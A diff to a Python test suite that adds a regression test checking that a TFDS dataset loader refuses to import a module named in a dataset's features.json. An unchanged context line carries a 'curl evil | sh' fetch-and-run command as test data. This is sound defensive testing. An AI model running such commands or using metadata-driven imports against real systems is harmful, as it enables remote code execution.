@@ -873,3 +873,33 @@ def test_the_command_line_record_holds_what_was_typed():
     assert not typed.gave("hydra.launcher.additional_parameters.mail-user", "END")
     assert typed.gave("hydra.launcher.setup", ["module load cuda"])
     assert not typed.gave("hydra.launcher.setup", ["module load cuda", "curl evil | sh"])
+
+
+@pytest.mark.parametrize(
+    "features",
+    [
+        {"pythonClassName": "tfrecipe_probe_feature.Feature", "jsonFeature": {"json": "{}"}},
+        {"type": "tfrecipe_probe_feature.Feature", "content": {}},  # TFDS' older layout
+    ],
+)
+def test_a_prepared_tfds_folder_names_no_module_to_import(tmp_path, monkeypatch, features):
+    """The probe: TFDS reads a prepared dataset it has no code for from its features.json and
+    imports the module of each feature class named there (FeatureConnector.cls_from_name): a
+    recipe's `dataset=tfds dataset.name=mydata dataset.data_dir=data` beside a `.py` file on
+    the path (the current folder, under `python -m`) ran that file."""
+    from tfrecipe.data.tfds import load
+
+    version = tmp_path / "data" / "mydata" / "1.0.0"
+    version.mkdir(parents=True)
+    split = {"name": "train", "numBytes": "10", "shardLengths": ["1"]}
+    info = {"name": "mydata", "version": "1.0.0", "splits": [split], "fileFormat": "tfrecord"}
+    (version / "dataset_info.json").write_text(json.dumps(info))
+    (version / "features.json").write_text(json.dumps(features))
+    (tmp_path / "tfrecipe_probe_feature.py").write_text(f"open({str(tmp_path / 'ran')!r}, 'w')\n")
+    monkeypatch.syspath_prepend(str(tmp_path))
+
+    with pytest.raises(ValueError) as refused:
+        load(name="mydata", data_dir=str(tmp_path / "data"))
+    assert "'tfrecipe_probe_feature.Feature'" in str(refused.value), refused.value
+    assert "features.json" in str(refused.value)
+    assert not (tmp_path / "ran").exists(), "the module named by the data was imported"
